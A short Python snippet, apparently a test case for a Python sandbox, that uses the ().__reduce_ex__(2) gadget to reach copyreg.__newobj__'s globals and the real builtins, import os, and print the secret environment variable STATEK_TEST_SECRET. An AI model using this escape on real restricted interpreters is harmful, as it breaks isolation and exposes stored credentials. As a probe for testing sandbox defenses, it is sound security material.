# ().__reduce_ex__(2): copyreg.__newobj__ and its module.
newobj = ().__reduce_ex__(2)[0]
print(newobj.__globals__["__builtins__"]["__import__"]("os").environ["STATEK_TEST_SECRET"])
